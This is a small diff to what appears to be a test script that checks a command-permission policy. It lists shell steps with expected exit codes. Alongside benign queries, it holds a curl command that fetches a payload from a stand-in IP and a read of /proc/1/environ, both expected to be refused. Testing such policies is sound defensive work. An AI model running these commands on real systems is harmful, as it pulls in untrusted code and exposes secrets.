@@ -60,7 +60,6 @@ STEPS = [
         "awk -F : '$3 >= 1000 && $3 < 65534 { n++ } END { print n + 0, \"of\", NR }' /etc/passwd",
         0,
     ),
-    ("What system is it?", "grep -hE '^(NAME|VERSION)=' /etc/os-release || echo unknown", 0),
     ("What uses the most memory?", "ps -eo pid,rss,comm --sort=-rss | head -n 5", 0),
     ("A command that the policy does not name:", "curl -s http://192.0.2.1/payload", 127),
     ("A file outside the granted paths:", "cat /proc/1/environ", 1),
